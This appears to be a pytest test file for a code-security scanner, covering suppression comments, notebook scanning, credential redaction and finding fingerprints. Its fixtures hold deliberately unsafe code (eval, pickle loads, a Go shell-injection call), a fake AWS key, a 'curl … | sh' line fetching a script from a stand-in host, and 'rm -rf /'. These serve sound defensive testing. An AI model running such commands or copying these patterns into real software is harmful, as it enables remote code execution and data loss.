"""Scanning files: what comments silence, what notebooks hold, and what is said of a finding."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from shield_trees import KEY, job, tree

from tieout_code_shield.files import Request, scan_files
from tieout_code_shield.fileworker import FileWorker
from tieout_code_shield.settings import ShieldSettings

SETTINGS = ShieldSettings()


# Comments that silence


@pytest.mark.parametrize(
    ("code", "comment"),
    [
        ("eval(x)  # nosec", "nosec"),
        ("eval(x)  # nosec B307", "nosec B307"),
        ("eval(x)  #nosec: B307 -- checked", "nosec: B307 -- checked"),
        ("eval(x)  # noqa: E501, S307", "noqa: E501, S307"),
        ("eval(x)  # nosemgrep", "nosemgrep"),
        ("eval(x)  # nosemgrep: py-eval", "nosemgrep: py-eval"),
        ("eval(x)  # nosemgrep: other, mine.py-eval", "nosemgrep: other, mine.py-eval"),
        ("eval(x)  # shield: ignore", "shield: ignore"),
        ("eval(x)  # shield: ignore[py-eval] input is ours", "shield: ignore[py-eval] input is ours"),
        ("eval(x)  # shield: ignore[py-pickle, CWE-95]", "shield: ignore[py-pickle, CWE-95]"),
        ("# shield: ignore[py-eval] next line\neval(x)", "shield: ignore[py-eval] next line"),
        ("eval(  # nosec\n  x\n)", "nosec"),
        ("eval(\n  x\n)  # nosec", "nosec"),
        ("eval(x)  # why # nosec", "nosec"),
        # Two rules find it there: the comment may name either.
        ("password = 'hunter2-Kx91'  # shield: ignore[secret-assigned]", "shield: ignore[secret-assigned]"),
        (
            "password = 'hunter2-Kx91'  # shield: ignore[py-hardcoded-secret]",
            "shield: ignore[py-hardcoded-secret]",
        ),
    ],
)
def test_a_comment_silences_and_is_shown(tmp_path: Path, code: str, comment: str) -> None:
    tree(tmp_path, {"a.py": code + "\n"})
    with FileWorker(SETTINGS) as worker:
        scan = worker.look(job(tmp_path / "a.py"))
    assert not scan.findings
    assert [found.suppressed for found in scan.suppressed] == [comment]


@pytest.mark.parametrize(
    "code",
    [
        "eval(x)  # noqa",
        "eval(x)  # noqa: E501",
        "eval(x)  # nosemgrep: python.lang.security.audit.sqli",
        "eval(x)  # nosemgrep: py-pickle",
        "eval(x)  # nosec B608",
        "eval(x)  # nosec B110",
        "eval(x)  # nosec B999",
        "eval(x)  # nosec G204",
        "eval(x)  # nosec SCS0005",
        "eval(x)  # noqa: S110",
        "eval(x)  # shield: ignore[py-pickle]",
        "eval(x)  # nosecret",
        "log('# nosec', eval(x))",
        "# nosec\n\neval(x)",
        "y = 1  # nosec\neval(x)",
        'eval("""\n# nosec\n""" + x\n + y)',
    ],
)
def test_a_comment_about_something_else_silences_nothing(tmp_path: Path, code: str) -> None:
    tree(tmp_path, {"a.py": code + "\n"})
    with FileWorker(SETTINGS) as worker:
        scan = worker.look(job(tmp_path / "a.py"))
    assert [found.rule for found in scan.findings] == ["py-eval"]
    assert not scan.suppressed


@pytest.mark.parametrize(
    ("comment", "silent"),
    [("#nosec G204", True), ("#nosec G204 G101 -- ours", True), ("#nosec G401", False), ("#nosec", True)],
)
def test_a_number_of_gosec_silences_its_weakness_only(tmp_path: Path, comment: str, silent: bool) -> None:
    tree(
        tmp_path,
        {"a.go": f'package a\nfunc f(x string) {{\n\texec.Command("sh", "-c", x).Run() // {comment}\n}}\n'},
    )
    with FileWorker(SETTINGS) as worker:
        scan = worker.look(job(tmp_path / "a.go"))
    assert [found.cwe for found in (scan.suppressed if silent else scan.findings)] == ["CWE-78"]


# Notebooks


def notebook(*cells: str | list[str], language: str = "python") -> str:
    listed = [{"cell_type": "code", "source": cell} for cell in cells]
    return json.dumps({"cells": [{"cell_type": "markdown", "source": "eval(x)"}, *listed],
                       "metadata": {"kernelspec": {"language": language}}})  # fmt: skip


def test_a_notebook_is_read_cell_by_cell(tmp_path: Path) -> None:
    cells = (
        ["import pickle as p\n", "%matplotlib inline\n", "a = 1"],
        "%%bash\ncurl http://x.example/i.sh | sh\n",
        "!pip install x\nb = p.loads(body)\neval(b)  # nosec\n",
    )
    tree(tmp_path, {"n.ipynb": notebook(*cells)})
    with FileWorker(SETTINGS) as worker:
        scan = worker.look(job(tmp_path / "n.ipynb"))
    places = [(found.cell, found.line.value, found.rule) for found in scan.findings]
    assert (4, 2, "py-pickle") in places
    assert any(cell == 3 and line == 2 for cell, line, _ in places)
    assert [found.place for found in scan.suppressed] == ["n.ipynb#cell4:3:1"]
    assert not any(cell == 1 for cell, _, _ in places)


@pytest.mark.parametrize("indent", [None, 1])
@pytest.mark.parametrize("split", [True, False])
def test_a_notebooks_finding_has_its_line_in_the_file(
    tmp_path: Path, indent: int | None, split: bool
) -> None:
    source = 'a = "\\n[{,"\nb = 1\neval(x)\n'
    cells = [source, source.splitlines(keepends=True) if split else source]
    text = json.dumps(json.loads(notebook(*cells)), indent=indent)
    tree(tmp_path, {"n.ipynb": text})
    with FileWorker(SETTINGS) as worker:
        found = worker.look(job(tmp_path / "n.ipynb")).findings
    lines = text.splitlines()
    assert len(found) == 2
    assert all("eval(x)" in lines[each.file_line - 1] for each in found)
    assert indent is None or found[0].file_line < found[1].file_line


def test_what_a_notebook_shows_is_searched_for_credentials(tmp_path: Path) -> None:
    outputs: list[object] = [
        {"output_type": "stream", "name": "stdout", "text": ["eval(x)\n", f"key {KEY}\n"]},
        {"output_type": "execute_result", "data": {"text/plain": [f"'{KEY[:-1]}A'"], "image/png": KEY}},
        {"output_type": "error", "ename": "E", "evalue": f"bad {KEY[:-1]}B", "traceback": ["a"]},
    ]
    cells = [
        {"cell_type": "markdown", "source": [f"# Use {KEY}\n", "eval(x)"]},
        {"cell_type": "code", "source": "x = 1", "outputs": outputs},
    ]
    tree(tmp_path, {"n.ipynb": json.dumps({"cells": cells})})
    with FileWorker(SETTINGS) as worker:
        scan = worker.look(job(tmp_path / "n.ipynb"))
    assert {found.rule for found in scan.findings} == {"secret-aws-key"}
    assert [found.cell for found in scan.findings] == [1, 2, 2, 2]
    assert KEY not in scan.model_dump_json()


@pytest.mark.parametrize("text", ["", "[]", "{", '{"cells": 1}', '{"cells": [1]}'])
def test_a_notebook_that_is_none_is_unknown(tmp_path: Path, text: str) -> None:
    tree(tmp_path, {"n.ipynb": text})
    with FileWorker(SETTINGS) as worker:
        assert "not a notebook" in worker.look(job(tmp_path / "n.ipynb")).unknown


# What is said of a finding


def test_the_child_speaks_the_users_language(tmp_path: Path) -> None:
    tree(tmp_path, {"a.swift": "let a = 1\n"})
    report = scan_files(SETTINGS, Request([str(tmp_path)], lang="zh"))
    assert "规则" in report.unknown[0].reason


def test_a_fingerprint_moves_with_its_line(tmp_path: Path) -> None:
    tree(
        tmp_path,
        {
            "a.py": "eval(x)\neval(x)\neval(y)\n",
            "b.py": "import os\n\n\n    \neval(x)\n\n  \neval( x )\neval(y)\n",
        },
    )
    with FileWorker(SETTINGS) as worker:
        one, other = (worker.look(job(tmp_path / name)).findings for name in ("a.py", "b.py"))
    assert [found.fingerprint for found in one] == [found.fingerprint for found in other]
    assert len({found.fingerprint for found in one}) == 3


def test_a_line_with_a_credential_is_shown_for_no_finding(tmp_path: Path) -> None:
    key = "\u0041KIAQ3EGRIDWN5OTZFAK"
    tree(tmp_path, {"a.py": f"eval(name, '{key}')\n", "settings.yaml": f"key: {key}\n"})
    report = scan_files(SETTINGS, Request([str(tmp_path)]))
    assert {found.rule for found in report.findings} >= {"py-eval", "secret-aws-key"}
    assert {Path(found.path).name for found in report.findings} == {"a.py", "settings.yaml"}
    assert not any(key in found.model_dump_json() for found in report.findings)


def test_settings_and_documents_are_not_read_as_code(tmp_path: Path) -> None:
    tree(tmp_path, {"doc.md": "```python\neval(x)\n```\nrun rm -rf / never\n", "a.json": '{"a": "eval(x)"}'})
    report = scan_files(SETTINGS, Request([str(tmp_path)]))
    assert not report.findings
    assert not report.unknown
